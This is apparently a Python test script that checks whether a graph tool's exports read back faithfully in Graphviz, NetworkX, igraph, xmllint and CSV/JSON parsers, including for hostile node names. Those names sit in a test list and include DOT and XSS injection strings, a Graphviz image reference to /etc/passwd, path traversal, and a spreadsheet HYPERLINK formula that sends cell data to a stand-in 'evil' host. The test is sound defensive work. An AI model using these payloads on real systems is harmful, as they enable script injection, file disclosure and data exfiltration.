#!/usr/bin/env python3
"""What `entente export` writes is read back by the programs it is meant for:
Graphviz, xmllint, NetworkX, igraph and Python's csv and json. Nodes, edges and
weights must be equal in all of them, also for hostile names.

usage: exports_read_back.py ENTENTE SOURCE_DIR; exit 77: skipped
"""
import csv
import importlib.util
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree

try:
    import igraph
    import networkx
except ImportError:
    if sys.executable != "/usr/bin/python3" and os.path.exists("/usr/bin/python3"):
        os.execv("/usr/bin/python3", ["/usr/bin/python3"] + sys.argv)
    print("skipped: python3-networkx and python3-igraph are not installed")
    sys.exit(77)

for tool in ("dot", "xmllint"):
    if not shutil.which(tool):
        print(f"skipped: {tool} is not installed")
        sys.exit(77)

PROGRAM, SOURCE = os.path.abspath(sys.argv[1]), sys.argv[2]

# One name for each thing that some reader or viewer would act on.
HOSTILE = [
    "plain", 'Joe "The Knife" O\'Hara', "C:\\dir\\", '\\" ]; evil [label="x', "\\N \\G \\E \\l",
    '"]; } digraph x { a -> b', "<b>bold</b>", '<<TABLE><TR><TD><IMG SRC="/etc/passwd"/></TD></TR>',
    "graph", "strict", "-.5e3", "a /* b */ // c # d", "a:b:ne", "{a|<p>b|c}",
    "<script>alert(1)</script>", "</text></svg><svg onload=alert(1)>", "]]>", "--> <x>",
    "&lt; &#0; &amp;amp; &xxe;", "' onmouseover='alert(1)", "=1+1", "+1", "@SUM(A1)", "\uff1d1+1",
    "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", " =1+1", "\u00a0=1+1", "a,b;c", "null", "NaN", "__proto__",
    "日本", "e\u0301", "\U0001d4d9oe", "Lаvrov", "*Vertices 3", "2022-01-21", "%s%n", "${x}", "../../etc",
]


def check(condition, what):
    if not condition:
        print("FAILED:", what)
        sys.exit(1)


def run(*command):
    return subprocess.run(command, check=True, capture_output=True, text=True).stdout


def weights(graph, name=lambda n: n):
    """Edges as a sorted list of (name, name, weight); the lower name first if undirected."""
    rows = []
    for u, v, data in graph.edges(data=True):
        pair = [name(u), name(v)]
        if not graph.is_directed():
            pair.sort()
        rows.append((*pair, float(data["weight"])))
    return sorted(rows)


def igraph_weights(graph, names, attribute="weight"):
    rows = []
    for e in graph.es:
        pair = [names[e.source], names[e.target]]
        if not graph.is_directed():
            pair.sort()
        rows.append((*pair, float(e[attribute])))
    return sorted(rows)


def unguarded(cell):
    return cell[1:] if cell.startswith("'") else cell


def read_back(source, folder, arguments, labels=None, reduced=lambda s: s):
    """Exports `source` in every format and compares all readings with the JSON."""
    paths = {}
    for ending in ("json", "graphml", "gexf", "jgf", "csv", "net", "dot"):
        paths[ending] = os.path.join(folder, "out." + ending)
        run(PROGRAM, "export", source, *arguments, "-o", paths[ending])
    data = json.load(open(paths["json"], encoding="utf-8"))
    node_link = networkx.node_link_graph(data)
    label = {n["id"]: n["label"] for n in data["nodes"]}
    expected = weights(node_link)
    check(len(expected) == len(data["links"]) > 0, "node-link JSON keeps its edges")
    if labels is not None:
        check(sorted(label.values()) == sorted(labels), "JSON holds the labels exactly")
    safe = {n: (reduced(text) if reduced(text).strip(' ') else n) for n, text in label.items()}

    for ending in ("graphml", "gexf"):
        run("xmllint", "--noout", paths[ending])
    graphml = networkx.read_graphml(paths["graphml"])
    check({n: d["label"] for n, d in graphml.nodes(data=True)} == safe, "GraphML labels")
    check(weights(graphml) == expected, "GraphML edges in NetworkX")
    gexf = networkx.read_gexf(paths["gexf"])
    check({n: d["label"] for n, d in gexf.nodes(data=True)} == safe, "GEXF labels")
    check(weights(gexf) == expected, "GEXF edges in NetworkX")
    by_igraph = igraph.Graph.Read_GraphML(paths["graphml"])
    check(dict(zip(by_igraph.vs["id"], by_igraph.vs["label"])) == safe, "GraphML labels in igraph")
    check(igraph_weights(by_igraph, by_igraph.vs["id"]) == expected, "GraphML edges in igraph")

    jgf = json.load(open(paths["jgf"], encoding="utf-8"))["graph"]
    check({k: v["label"] for k, v in jgf["nodes"].items()} == label, "JGF labels")
    check(sorted((*([e["source"], e["target"]] if jgf["directed"] else
                    sorted([e["source"], e["target"]])), e["metadata"]["weight"])
                 for e in jgf["edges"]) == expected, "JGF edges")

    with open(paths["csv"], encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    directed = node_link.is_directed()
    check(sorted((*([r["Source"], r["Target"]] if directed else sorted([r["Source"], r["Target"]])),
                  float(r["Weight"])) for r in rows) == expected, "CSV edges")
    with open(os.path.join(folder, "out.nodes.csv"), encoding="utf-8", newline="") as file:
        text = file.read()
    nodes = list(csv.DictReader(text.splitlines(keepends=True)))
    check({r["Id"]: unguarded(r["Label"]) for r in nodes} ==
          {n: unguarded(t) for n, t in safe.items()}, "CSV labels")
    for row in csv.reader(text.splitlines(keepends=True)):
        for cell in row:
            check(not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\t", "\r")),
                  "a CSV cell that a spreadsheet runs: " + repr(cell))

    pajek = igraph.Graph.Read_Pajek(paths["net"])
    order = [n["id"] for n in data["nodes"]]
    check(igraph_weights(pajek, order) == expected, "Pajek edges in igraph")
    check(networkx.read_pajek(paths["net"]).number_of_nodes() == len(order),
          "Pajek nodes in NetworkX")

    canonical = run("dot", "-Tcanon", paths["dot"])
    check(canonical.count("weight=") == len(expected), "DOT edges in Graphviz")
    objects = json.loads(run("dot", "-Tdot_json", paths["dot"]))
    check(len(objects["objects"]) == len(order), "DOT nodes in Graphviz")
    seen = [o["label"].replace("&amp;", "&").replace("\\\\", "\\") for o in objects["objects"]]
    check(sorted(seen) == sorted(safe.values()), "DOT labels in Graphviz")
    ids = [o["name"] for o in objects["objects"]]
    edges = sorted((*([order[int(ids[e["tail"]][1:])], order[int(ids[e["head"]][1:])]] if directed
                      else sorted([order[int(ids[e["tail"]][1:])], order[int(ids[e["head"]][1:])]])),
                    float(e["weight"])) for e in objects["edges"])
    check(edges == expected, "DOT edges with weights")


def shown(text):
    """What is left of a label where no control characters may stand (docs/formats.md)."""
    out = ""
    for c in text.replace("\0", "\ufffd"):
        point = ord(c)
        if point < 0x20 or 0x7f <= point < 0xa0 or point in (0x2028, 0x2029):
            out += " "
        elif not (point in (0x200b, 0xfeff, 0x61c, 0x200e, 0x200f) or 0x202a <= point <= 0x202e or
                  0x2066 <= point <= 0x2069 or point & 0xfffe == 0xfffe):
            out += c
    return out


def kit_labels(source):
    """The labels of the kit of bad inputs by name, where its maker is at hand."""
    shared = os.environ.get("ENTENTE_SHARED", os.path.join(source, "..", "shared"))
    path = os.path.join(shared, "hostile", "make_hostile.py")
    if not os.path.exists(path):
        print("left out: the kit's labels, for there is no ../shared/hostile")
        return {}
    spec = importlib.util.spec_from_file_location("make_hostile", path)
    kit = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(kit)
    return kit.LABELS


def edge_list(path, labels):
    with open(path, "w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["source", "target", "weight"])
        for i, name in enumerate(labels):
            writer.writerow([name, "hub", (i + 1) / 8])
    return path


def refused(label, folder):
    """Whether an edge list with this label is refused, with its place."""
    path = edge_list(os.path.join(folder, "one.csv"), [label])
    done = subprocess.run([PROGRAM, "export", path, "--to", "json", "-o", "-"],
                          capture_output=True, text=True)
    check(done.returncode == 0 or (done.returncode == 2 and "one.csv:2: " in done.stderr),
          f"an edge list with {label[:40]!r}: {done.stderr}")
    return done.returncode != 0


def read_tables_back(ties, labels):
    """The names in every form of a list: exactly in JSON, as shown in the others."""
    ask = [PROGRAM, "rank", ties, "--top", "1000"]
    exact = [row["label"] for row in json.loads(run(*ask, "--json"))["rows"]]
    check(sorted(exact) == sorted(labels), "names in rank --json")
    lines = run(*ask, "--jsonl").split("\n")
    names = [json.loads(line).get("label") for line in lines if line.strip()]
    check(sorted(n for n in names if n is not None) == sorted(labels), "names in rank --jsonl")
    rows = list(csv.DictReader(run(*ask, "--csv").splitlines(keepends=True)))
    got = sorted(unguarded(row["label"]) for row in rows)
    check(got == sorted(unguarded(shown(n.replace("\0", " "))) for n in labels),
          "names in rank --csv")
    bare = sorted(shown(n.replace("\0", " ")).strip() for n in labels)
    rows = run(*ask, "--tsv").split("\n")
    at = rows[0].split("\t").index("label")
    check(sorted(row.split("\t")[at].strip() for row in rows[1:] if row) == bare,
          "names in rank --tsv")
    rows = [row for row in run(*ask, "--markdown").split("\n") if row.startswith("| ")][2:]
    cells = [re.split(r"(?<!\\)(?:\\\\)*\|", row)[2] for row in rows]
    check(sorted(re.sub(r"\\(.)", r"\1", cell).strip() for cell in cells) == bare,
          "names in rank --markdown")
    check(not any(re.search(r"(?<!\\)<", row) for row in rows), "markup in rank --markdown")
    text = run(*ask, "--format=table")
    check(all(ord(c) >= 0x20 or c == "\n" for c in text), "controls in a table")


def read_pictures_back(ties, folder, labels):
    """Every name is in the pictures as a tooltip, and they hold nothing that a name brought."""
    svg, dot = os.path.join(folder, "picture.svg"), os.path.join(folder, "picture.dot")
    for path in (svg, dot):
        run(PROGRAM, "render", ties, "-o", path)
    run("xmllint", "--noout", svg)
    tooltips = []
    for element in xml.etree.ElementTree.parse(svg).iter():
        tag = element.tag.split("}")[1]
        check(tag in ("svg", "g", "title", "desc", "polygon", "path", "ellipse", "text", "polyline"),
              "the SVG holds an element " + tag)
        for key in element.attrib:
            check(not key.startswith("on") and not key.endswith("href"), "the SVG holds " + key)
        if tag == "title" and " - influence " in element.text:
            tooltips.append(element.text.rsplit(" - influence ", 1)[0])
    cut = [shown(n.replace("\0", " ")).strip()[:250] for n in labels]
    check(sorted(t.strip()[:250] for t in tooltips) == sorted(cut), "names in the SVG's tooltips")
    given = re.findall(r"^\tn(\d+)\t(?:.|\n)*?pos=\"([-.\d]+),([-.\d]+)!", open(dot).read(), re.M)
    check(len(given) == len(labels), "actors in the picture's DOT")
    drawn = {o["name"]: o["pos"] for o in json.loads(run("neato", "-n2", "-Tjson0", dot))["objects"]}
    shifts = []
    for node, x, y in given:
        now = [float(v) for v in drawn["n" + node].rstrip("!").split(",")]
        shifts.append((now[0] - float(x), now[1] - float(y)))
    for axis in (0, 1):  # the whole drawing may be moved
        moved = [shift[axis] for shift in shifts]
        check(max(moved) - min(moved) < 0.03, "neato -n2 leaves the actors where they are")
    again = os.path.join(folder, "again.dot")
    run(PROGRAM, "--threads", "1", "render", ties, "-o", again)
    check(open(again, "rb").read() == open(dot, "rb").read(), "the same picture on one thread")


with tempfile.TemporaryDirectory() as folder:
    store = os.path.join(folder, "case.entente")
    run(PROGRAM, "build", os.path.join(SOURCE, "examples", "crisis"), "-o", store)
    read_back(store, folder, [])
    read_back(store, folder, ["--on", "all"])
    read_back(store, folder, ["--on", "meetings"])

    kit = kit_labels(SOURCE)
    kept = [label for label in kit.values() if not refused(label, folder)]
    check(all(not label.strip(" ") or len(label.encode()) > 1024
              for label in kit.values() if label not in kept),
          "only labels that are empty or too long are refused")
    labels = kept + [label for label in HOSTILE if label not in kept]
    ties = edge_list(os.path.join(folder, "hostile.csv"), labels)
    names = labels + ["hub"]
    read_back(ties, folder, [], labels=names, reduced=shown)
    read_tables_back(ties, names)
    read_pictures_back(ties, folder, names)
    print(f"kit: {len(kept)} of {len(kit)} labels read back, {len(kit) - len(kept)} refused; "
          f"others: {len(labels) - len(kept)} read back")
print("ok")
